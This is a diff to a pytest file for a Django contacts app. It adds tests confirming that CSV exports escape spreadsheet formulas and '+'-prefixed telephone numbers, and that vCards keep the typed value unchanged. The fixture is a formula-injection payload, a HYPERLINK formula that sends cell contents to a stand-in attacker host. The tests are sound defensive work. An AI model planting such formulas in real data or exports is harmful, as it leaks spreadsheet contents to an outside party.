@@ -198,3 +198,41 @@ def test_api_search_does_not_reveal_who_holds_a_post(client, kenya_iti, npc_ghan
     assert client.get("/api/contacts/", {"q": "odhiambo"}).json()["count"] == 0
     client.force_login(npc_ghana)
     assert client.get("/api/contacts/", {"q": "odhiambo"}).json()["count"] == 1
+
+
+# In a spreadsheet ------------------------------------------------------------------------
+
+FORMULA = '=HYPERLINK("https://attacker.example/?"&A2,"Open")'
+
+
+@pytest.fixture
+def formula_entry(kenya_iti):
+    from smallarms.contacts import services
+
+    return services.update_contact(
+        acting_user=None, contact=kenya_iti, institution=FORMULA, source="import"
+    )
+
+
+def test_an_institution_typed_as_a_formula_is_text_in_the_csv_export(
+    client, formula_entry, npc_ghana
+):
+    import csv
+    import io
+
+    client.force_login(npc_ghana)
+    text = client.get(reverse("contacts:contact_export")).content.decode("utf-8-sig")
+    (row,) = csv.DictReader(io.StringIO(text))
+    # A telephone begins with "+" and is more than a number: a spreadsheet would take it for
+    # a formula too.
+    assert (row["institution"], row["telephones"]) == ("'" + FORMULA, "'+254 20 555 0101")
+
+
+def test_the_vcard_keeps_the_institution_exactly(client, formula_entry, npc_ghana):
+    # Address books do not evaluate formulas: a vCard carries what was typed.
+    client.force_login(npc_ghana)
+    import vobject
+
+    response = client.get(reverse("contacts:contact_vcard", args=[formula_entry.pk]))
+    card = vobject.readOne(response.content.decode())
+    assert card.org.value == [FORMULA, "Firearms Tracing Unit"]
